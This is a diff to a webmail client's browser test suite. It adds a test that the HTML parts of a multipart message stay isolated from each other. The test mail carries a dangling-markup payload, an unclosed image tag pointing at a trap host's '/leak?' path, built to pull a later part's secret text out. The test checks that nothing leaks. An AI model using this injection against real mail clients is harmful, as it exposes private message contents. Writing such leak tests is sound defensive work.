@@ -249,6 +249,36 @@ describe('a message in a browser', { skip: noBrowser }, () => {
     assert.equal(seen.includes(`${trap.url}/inline-script`), true)
   })
 
+  it('keeps the HTML parts of a mail apart', async test => {
+    const trap = await openTrap(test)
+    const { page, url, store, context } = await openInbox(test, stage)
+    const part = (markup: string) => `--b\r\nContent-Type: text/html\r\n\r\n${markup}\r\n`
+    const body = [
+      `<p>One <img src="${trap.url}/leak?`,
+      '<p>Two is secret <a href="https://a.example/">link</a><!-- ',
+      '"> <p>Three <img alt="shown" src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">',
+    ]
+    await put(
+      store,
+      mail('Parts', `${body.map(part).join('')}--b--`, 'Content-Type: multipart/mixed; boundary=b'),
+    )
+    const seen = await watch(context, new URL(url).origin)
+    await page.goto(`${url}m/1`)
+    const frame = page.frameLocator('[data-testid=html-frame]')
+    const inner = (index: number) => frame.frameLocator('iframe').nth(index)
+    await inner(0).getByText('One').waitFor()
+    await inner(1).getByText('Two is secret').waitFor()
+    await inner(2).getByText('Three').waitFor()
+    assert.equal(await inner(1).getByRole('link').getAttribute('href'), 'https://a.example/')
+    assert.deepEqual([...seen], [])
+
+    // With remote content let in, the first part still takes nothing of the second along.
+    await page.goto(`${url}m/1/html?remote=1`)
+    await page.frameLocator('iframe').nth(1).getByText('Two is secret').waitFor()
+    assert.equal(seen.filter(request => request.includes('secret')).length, 0)
+    assert.deepEqual(trap.hits, [])
+  })
+
   it('lets no hostile mail of the corpus fire', async test => {
     const folder = new URL('../fixtures/corpus/hostile/', import.meta.url)
     const files = readdirSync(folder).filter(name => /^(xss|remote|dom|efail).*\.eml$/.test(name))
